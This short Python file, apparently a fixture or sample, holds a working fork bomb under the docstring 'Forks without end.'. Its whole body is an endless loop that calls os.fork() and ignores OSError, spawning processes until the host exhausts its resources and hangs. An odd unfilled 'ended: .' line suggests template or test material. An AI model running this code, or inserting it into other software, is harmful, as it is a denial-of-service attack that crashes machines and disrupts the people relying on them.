"""Forks without end.

ended: .
"""

# %% before
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
